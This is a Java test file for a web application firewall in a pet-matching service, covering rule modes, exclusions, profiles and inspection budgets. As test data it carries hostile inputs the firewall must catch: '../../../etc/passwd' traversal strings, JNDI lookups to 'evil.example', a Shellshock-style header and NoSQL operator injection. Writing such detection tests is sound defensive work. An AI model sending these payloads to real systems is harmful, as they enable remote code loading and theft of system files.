package com.petmatch.security.firewall;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.petmatch.security.error.SecurityMisuseException;
import com.petmatch.security.firewall.FirewallReport.Answer;
import com.petmatch.security.firewall.InspectionBudget.Beyond;
import com.petmatch.security.pipeline.Enforcement;
import com.petmatch.security.request.HttpField;
import com.petmatch.security.request.QueryParameter;
import com.petmatch.security.request.RouteId;
import com.petmatch.testkit.FakeClock;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class FirewallTest {

    private static final String ATTACK = "../../../etc/passwd";
    private static final Instant NOW = Instant.parse("2030-01-01T00:00:00Z");

    private final FakeClock clock = FakeClock.at(NOW);

    private static RequestHead head(String name, String value) {
        return head("GET", List.of("pets"), name, value);
    }

    private static RequestHead head(String method, List<String> segments, String name, String value) {
        return new RequestHead(
                method,
                segments,
                List.of(new QueryParameter(name, value)),
                List.of(new HttpField("User-Agent", "PetMatch/1")),
                new RouteId("GET", "/pets"));
    }

    private static RequestHead withField(String name, String value) {
        return new RequestHead(
                "GET", List.of("pets"), List.of(), List.of(new HttpField(name, value)), new RouteId("GET", "/pets"));
    }

    private Firewall firewall(FirewallSettings settings) {
        return Firewall.builder().settings(settings).clock(clock).build();
    }

    private FirewallReport report(FirewallSettings settings, String value) {
        return firewall(settings).inspectHead(head("q", value));
    }

    private FirewallReport report(RequestHead head) {
        return firewall(FirewallSettings.standard()).inspectHead(head);
    }

    @Test
    void anHonestRequestIsClean() {
        assertThat(report(head("q", "L'Oréal & O'Brien: 5 < 6, 100 %"))).isSameAs(FirewallReport.clean());
    }

    @Test
    void aFindingNamesRulePlaceFieldAndLayerButNotTheValue() {
        Finding finding = report(head("file", "%252e%252e%252f..%252f..%252fetc%252fpasswd"))
                .findings()
                .get(0);

        assertThat(finding.place()).isEqualTo(FieldPlace.QUERY);
        assertThat(finding.field()).isEqualTo("file");
        assertThat(finding.step()).isEqualTo(2);
        assertThat(finding.toString()).doesNotContain("passwd");
    }

    @Test
    @Tag("row-48")
    void aFourthLayerIsAFindingItself() {
        assertThat(report(head("q", "%25252541"))).returns(Answer.DENY, FirewallReport::answer);
        assertThat(report(head("q", "%252541")).isPassed()).isTrue();
    }

    @Test
    void valuesOfEveryPlaceAreRead() {
        assertThat(report(head("GET", List.of("..", "..", "..", "x"), "q", "1")).isPassed())
                .isFalse();
        assertThat(report(head("user[$ne]", "1")).isPassed()).isFalse();
        assertThat(report(withField("X-Api-Version", "${jndi:ldap://a}")).isPassed())
                .isFalse();
        assertThat(report(withField("Accept-Language", "${jndi:ldap://a}")).isPassed())
                .isFalse();
        assertThat(report(withField("Cookie", "a=1; theme=" + ATTACK)).isPassed())
                .isFalse();
        assertThat(report(withField("Cookie", "a=1; theme=dark; b=\"x\"")).isPassed())
                .isTrue();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "Proxy|http://evil.example",
                "X-Scan-Memo|a",
                "Range|bytes=9-1",
                "Range|bytes=0-1,1-2,2-3,3-4,4-5,5-6",
                "Content-Type|application/json; charset=utf-7",
                "Content-Type|text/plain; a=1; a=2",
                "Content-Type|json",
                "Content-Type|multipart/form-data",
                "Connection|keep-alive, close",
                "Connection|close, Authorization",
                "Expect|200-ok",
                "User-Agent|sqlmap/1.7",
                "User-Agent|() { :; }; x",
                "Authorization|Bearer ${jndi:ldap://evil.example/a}",
                "authorization|bearer a;${jndi:rmi://evil.example}"
            })
    void headerFieldsThatNoBrowserSendsAreRefused(String name, String value) {
        assertThat(report(withField(name, value)).isPassed()).isFalse();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "Range|bytes=0-499,500-",
                "Content-Type|multipart/form-data; boundary=----WebKitFormBoundaryabc",
                "Content-Type|application/json;charset=UTF-8",
                "Connection|keep-alive, Upgrade",
                "Upgrade|websocket",
                "Referer|http://localhost:3000/pets?x=1",
                "Sec-CH-UA|\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\"",
                "Accept|text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                "If-None-Match|W/\"5-abc\"",
                "X-Forwarded-For|10.0.0.1, 192.168.1.1",
                "Authorization|Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==",
                "authorization|Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl-_"
            })
    void headerFieldsOfBrowsersPass(String name, String value) {
        assertThat(report(withField(name, value)).findings()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"TRACE", "TRACK", "DEBUG", "PROPFIND", "get"})
    void methodsOfAttackersAreRefused(String method) {
        assertThat(report(head(method, List.of(), "q", "1")).isPassed()).isFalse();
    }

    @Test
    void aRuleInShadowIsReportedAndCountsNothing() {
        FirewallReport report = report(
                FirewallSettings.standard()
                        .with("traversal.*", Enforcement.SHADOW)
                        .with("lfi.*", Enforcement.SHADOW),
                ATTACK);

        assertThat(report.points()).isZero();
        assertThat(report.isPassed()).isTrue();
        assertThat(report.findings()).isNotEmpty().allMatch(Finding::shadow);
    }

    @Test
    void anExactModeWinsOverItsFamilys() {
        FirewallSettings settings = FirewallSettings.standard()
                .with("traversal.*", Enforcement.OFF)
                .with("lfi.*", Enforcement.OFF)
                .with("traversal.climb", Enforcement.ENFORCE);

        assertThat(report(settings, ATTACK).findings())
                .extracting(finding -> finding.rule().id())
                .containsExactly("traversal.climb");
    }

    @Test
    void anExclusionHoldsForItsRouteFieldAndTime() {
        Exclusion exclusion = new Exclusion("GET /pets", "q", "traversal.*", "paths in docs", NOW.plusSeconds(60));
        Firewall firewall = firewall(FirewallSettings.standard().with(exclusion).with("lfi.*", Enforcement.OFF));

        assertThat(firewall.inspectHead(head("q", "../../../a")).isPassed()).isTrue();
        assertThat(firewall.inspectHead(head("other", "../../../a")).isPassed()).isFalse();
        clock.advance(Duration.ofSeconds(60));
        assertThat(firewall.inspectHead(head("q", "../../../a")).isPassed()).isFalse();
        assertThat(firewall.expiredExclusions()).containsExactly(exclusion);
    }

    @Test
    void anExclusionOfEverythingIsRefused() {
        assertThatThrownBy(() -> new Exclusion("*", "*", "*", "all", NOW)).isInstanceOf(SecurityMisuseException.class);
        assertThatThrownBy(() -> new Exclusion("*", "*", "sqli.*", "all", NOW))
                .isInstanceOf(SecurityMisuseException.class);
        assertThatThrownBy(() -> firewall(FirewallSettings.standard().with("nosuch.rule", Enforcement.OFF)))
                .isInstanceOf(SecurityMisuseException.class);
    }

    @Test
    void profilesCountWhatTheySay() {
        String likely = "the file hosts in /etc/hosts is on my router";

        assertThat(report(FirewallSettings.of(FirewallProfile.PRECISE), likely).isPassed())
                .isTrue();
        assertThat(report(FirewallSettings.of(FirewallProfile.BALANCED), likely).isPassed())
                .isFalse();
        assertThat(report(FirewallSettings.of(FirewallProfile.STRICT), "{{name}}")
                        .isPassed())
                .isFalse();
        assertThat(report(FirewallSettings.of(FirewallProfile.BALANCED), "{{name}}")
                        .isPassed())
                .isTrue();
    }

    @Test
    void pointsOfAllFieldsAreSummedUpAndARuleCountsOnceAField() {
        Firewall firewall = Firewall.builder().only(new Marker()).build();

        assertThat(firewall.inspectHead(head("q", "mark mark")).points()).isEqualTo(3);
        FirewallReport both = firewall.inspectHead(new RequestHead(
                "GET",
                List.of(),
                List.of(new QueryParameter("a", "mark"), new QueryParameter("b", "mark")),
                List.of(),
                RouteId.unmatched()));
        assertThat(both.points()).isEqualTo(6);
        assertThat(both.isPassed()).isFalse();
    }

    @Test
    void typedFieldsAreCheckedInsteadOfScanned() {
        FieldPlan plan =
                FieldPlan.none().with("GET /pets", "id", FieldType.ID).with("GET /pets", "text", FieldType.FREE_TEXT);
        Firewall firewall = firewall(FirewallSettings.of(FirewallProfile.STRICT).with(plan));

        assertThat(firewall.inspectHead(head("id", "5-a")).isPassed()).isTrue();
        assertThat(firewall.inspectHead(head("id", "5 a")).findings())
                .extracting(finding -> finding.rule().id())
                .contains("field.type");
        assertThat(firewall.inspectHead(head("text", "Hello {{name}}")).isPassed())
                .isTrue();
        assertThat(firewall.inspectHead(head("text", ATTACK)).isPassed()).isFalse();
    }

    @Test
    @Tag("row-49")
    void theBudgetIsTheSameForTheSameRequestAndRefusesBeyond() {
        String text = "cat & dog; ".repeat(1_000);
        for (Beyond beyond : Beyond.values()) {
            Firewall firewall = Firewall.builder()
                    .budget(new InspectionBudget(10_000, beyond))
                    .build();
            FirewallReport once = firewall.inspectHead(head("q", text));

            assertThat(once.isPassed()).isEqualTo(beyond == Beyond.PASS);
            assertThat(once.findings())
                    .extracting(finding -> finding.rule().id())
                    .contains("budget.exhausted");
            assertThat(firewall.inspectHead(head("q", text))).isEqualTo(once);
        }
    }

    @Test
    void aLargeBodyStaysBelowTheStandardBudget() {
        String text = "../ ; cat | <?php ${jndi: {{7*7}} (cn= $ne <!doctype \n http:// cookie= %25 ".repeat(1_700);
        BodyBytes body = new BodyBytes(text.getBytes(StandardCharsets.UTF_8), "text/plain", "", RouteId.unmatched());

        assertThat(Firewall.builder().build().inspectBody(body).findings())
                .extracting(finding -> finding.rule().id())
                .isNotEmpty()
                .doesNotContain("budget.exhausted");
    }

    @Test
    void everyRuleHasAnIdOfItsFamilyAndOnlyOneDetector() {
        List<FirewallRule> rules = Firewall.builder().build().rules();

        assertThat(rules).extracting(FirewallRule::id).doesNotHaveDuplicates();
        assertThat(rules).hasSizeGreaterThan(60);
        assertThatThrownBy(() -> Firewall.builder()
                        .detector(new Marker())
                        .detector(new Marker())
                        .build())
                .isInstanceOf(SecurityMisuseException.class);
    }
}
